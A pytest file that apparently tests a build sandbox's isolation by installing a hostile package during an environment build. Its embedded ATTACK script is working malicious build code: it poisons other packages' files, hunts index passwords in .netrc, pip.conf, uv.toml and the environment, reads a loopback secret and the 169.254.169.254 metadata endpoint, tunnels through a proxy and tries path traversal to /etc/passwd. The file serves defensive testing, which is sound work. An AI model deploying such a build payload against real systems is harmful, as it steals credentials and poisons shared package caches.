"""A requirement whose build is an attack: on other tasks' packages, on the host's loopback, on what else it can reach.

`old_way` is how environments were built once: with one cache for all that every build could write, and the host's
network. There the same attack succeeds.
"""

from __future__ import annotations

import json
import secrets
import socket
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from repoassay.errors import InfraFault
from repoassay.sandbox.cache import Cache
from repoassay.sandbox.namespaces import NamespaceSandbox
from repoassay.sandbox.programs import uv_program
from repoassay.sandbox.protocol import Access, Command, Mount, SandboxNetwork
from repoassay.types import Limits
from repoassay.workspace.building import run_build
from repoassay.workspace.environment import build_environment
from workspace.build_index.index import PASSWORD, Index, sdist, serving, wheel
from workspace.test_environment import a_task

ATTACK = """
import json, os, socket, urllib.request
TOLD = {"wrote": [], "read": [], "passwords": []}
WANTED = json.loads(WANTED_TEXT)
for top, folders, files in os.walk("/"):
    if top in ("/proc", "/sys", "/usr"):
        folders.clear()
    for name in files:
        path = os.path.join(top, name)
        try:
            if name == "victim.py":
                os.unlink(path)
                open(path, "w").write("SAID = 'poisoned'")
                TOLD["wrote"].append(path)
            elif name.startswith(("uv.toml", ".netrc", "pip.conf")) and WANTED["password"] in open(path).read():
                TOLD["passwords"].append(path)
        except OSError:
            pass
for place in WANTED["folders"]:
    try:
        open(os.path.join(place, "written"), "w").write("x")
        TOLD["wrote"].append(place)
    except OSError:
        pass
if any(WANTED["password"] in value for value in os.environ.values()):
    TOLD["passwords"].append("environment")

def read(name, opener, url):
    try:
        TOLD["read"].append((name, opener.open(url, timeout=3).read().decode()))
    except Exception as error:
        pass

direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))
for number, url in enumerate(WANTED["urls"]):
    read(f"direct {number}", direct, url)
    if proxy := os.environ.get("HTTP_PROXY"):
        read(f"proxy {number}", urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy})), url)
        here, port = proxy.rpartition("/")[2].split(":")
        try:
            tunnel = socket.create_connection((here, int(port)), 3)
            target = url.split("/")[2]
            tunnel.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
            if b" 200 " in tunnel.recv(100):
                TOLD["read"].append((f"tunnel {number}", target))
        except OSError:
            pass
index = os.environ.get("UV_DEFAULT_INDEX", "")
for path in ("../../secret", "..%2F..%2Fsecret", "../../../files/secret", "/etc/passwd"):
    read(f"relay {path}", direct, index + path)
try:
    abstract = socket.socket(socket.AF_UNIX)
    abstract.connect("\\0" + WANTED["abstract"])
    TOLD["read"].append(("abstract", ""))
except OSError:
    pass
"""
PYTHON = str(Path(sys.base_prefix, "bin", f"python{sys.version_info.major}.{sys.version_info.minor}"))


class Scene:
    """A host with a secret on its loopback, an abstract socket, and an index that has a hostile package."""

    def __init__(self, index: Index, cache: Cache) -> None:
        self.index, self.cache = index, cache
        self.abstract = f"repoassay-{secrets.token_hex(8)}"
        index.pages["/secret"] = b"the secret"
        self.digest = index.add("victim", "victim-1.0-py3-none-any.whl", wheel("victim"))
        index.add("pytest", "pytest-1.0-py3-none-any.whl", wheel("pytest"))
        wanted = {
            "password": PASSWORD,
            "folders": ["/", "/usr", "/etc", str(cache.path), *map(str, cache.path.glob("*"))],
            "urls": [f"{index.url.removesuffix('/simple')}/secret", "http://169.254.169.254/latest/meta-data"],
            "abstract": self.abstract,
        }
        index.add("evil", "evil-1.0.tar.gz", sdist(ATTACK.replace("WANTED_TEXT", repr(json.dumps(wanted)))))


@pytest.fixture
def scene(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    with serving(Index()) as index, socket.socket(socket.AF_UNIX) as listening:
        made = Scene(index, Cache(tmp_path / "cache"))
        listening.bind(f"\0{made.abstract}")
        listening.listen()
        for name in ("UV_INDEX", "UV_EXTRA_INDEX_URL", "UV_FIND_LINKS", "REPOASSAY_PACKAGE_HOSTS"):
            monkeypatch.delenv(name, raising=False)
        monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
        monkeypatch.setenv("UV_DEFAULT_INDEX", index.url)
        yield made


def built(scene: Scene, folder: Path, requirements: str, *, pinned: bool = False) -> dict[str, str]:
    """Build an environment; what its modules hold, by name."""
    kind = "requirements" if pinned else "resolve"
    (folder / "environment").mkdir(parents=True)
    (folder / f"environment/{kind}.txt").write_text(requirements)
    sandbox = NamespaceSandbox(scene.cache)
    task = a_task(folder, **{kind: f"environment/{kind}.txt"})
    return modules(build_environment(task, scene.cache, sandbox))


def modules(environment: Path) -> dict[str, str]:
    return {path.stem: path.read_text() for path in environment.glob("lib/python*/site-packages/*.py")}


def told(found: dict[str, str]) -> dict[str, list[object]]:
    names: dict[str, dict[str, list[object]]] = {}
    exec(found["evil"], names)
    return names["TOLD"]


@pytest.mark.long
def test_a_hostile_build_reaches_nothing_and_poisons_nobody(scene: Scene, tmp_path: Path) -> None:
    found = told(built(scene, tmp_path / "one", "victim\nevil\n"))
    assert all(str(path).startswith(("/env/", "/tmp/")) for path in found["wrote"])  # its own copies are its own
    assert found["read"] == []
    assert built(scene, tmp_path / "two", "victim\n")["victim"] == "SAID = 'honest'\n"
    pinned = built(scene, tmp_path / "three", f"victim==1.0 --hash=sha256:{scene.digest}\n", pinned=True)
    assert pinned["victim"] == "SAID = 'honest'\n"
    assert scene.index.asked.count("GET /files/victim-1.0-py3-none-any.whl") == 1  # shared nevertheless


@pytest.mark.long
def test_the_password_of_an_index_stays_outside(scene: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    scene.index.locked = True
    with pytest.raises(InfraFault, match="answers 401"):
        built(scene, tmp_path / "zero", "evil\n")
    monkeypatch.setenv("UV_DEFAULT_INDEX", scene.index.url_with_password)
    found = told(built(scene, tmp_path / "one", "evil\n"))
    assert found["passwords"] == [] and found["read"] == []


def old_way(scene: Scene, environment: Path, requirement: str) -> dict[str, str]:
    downloads = scene.cache.path / "uv"
    for folder in (environment, downloads):
        folder.mkdir(exist_ok=True, parents=True)
        folder.chmod(0o777)
    script = "/run/uv venv -q --relocatable --allow-existing --no-project --python $BASE_PYTHON /env && /run/uv pip"
    script += " install -q --python /env/bin/python --link-mode copy $REQUIREMENT"
    done = NamespaceSandbox(scene.cache).run(
        Command(
            argv=("/bin/sh", "-c", script),
            env={"UV_DEFAULT_INDEX": scene.index.url_with_password, "UV_CACHE_DIR": "/run/downloads",
                 "BASE_PYTHON": PYTHON, "REQUIREMENT": requirement},
            mounts=(
                Mount(Path(uv_program()), "/run/uv"),
                Mount(environment, "/env", Access.WRITE),
                Mount(downloads, "/run/downloads", Access.WRITE),
            ),
            network=SandboxNetwork.HOST,
            limits=Limits(seconds=120, memory=2**30, disk=2**30, processes=256),
        )
    )  # fmt: skip
    assert done.exit.code == 0, done.stderr
    return modules(environment)


@pytest.mark.long
def test_the_old_way_gave_all_of_it_away(scene: Scene, tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    assert old_way(scene, tmp_path / "zero", "victim")["victim"] == "SAID = 'honest'\n"
    found = told(old_way(scene, tmp_path / "one", "evil"))
    assert found["passwords"] == ["environment"]
    assert ("direct 0", "the secret") in found["read"]
    assert ("abstract", "") in found["read"]
    assert old_way(scene, tmp_path / "two", "victim")["victim"] == "SAID = 'poisoned'"


@pytest.fixture
def building(scene: Scene, tmp_path: Path) -> Callable[[str], Path]:
    """Run a shell script as a build; the tree it filled."""

    def build(script: str) -> Path:
        tree = tmp_path / "tree"
        tree.mkdir()
        command = Command(argv=("/bin/sh", "-c", script), limits=Limits(seconds=60, memory=2**29, disk=2**28))
        run_build("It failed", tree, "/made", command, scene.cache, NamespaceSandbox(scene.cache))
        return tree

    return build


def test_caches_of_a_build_are_empty_at_first_and_gone_afterwards(building: Callable[[str], Path]) -> None:
    tree = building('mkdir -p "$UV_CACHE_DIR" && touch "$UV_CACHE_DIR/x" /made/kept && test "$HOME" = /home/agent')
    assert [path.name for path in tree.iterdir()] == ["kept"]


def test_what_a_task_names_by_address_is_refused_with_the_remedy(scene: Scene, tmp_path: Path) -> None:
    direct = f"evil @ http://localhost.example:{scene.index.port}/files/evil-1.0.tar.gz\n"
    with pytest.raises(InfraFault, match=r"does not allow localhost\.example.*REPOASSAY_PACKAGE_HOSTS"):
        built(scene, tmp_path / "one", direct)
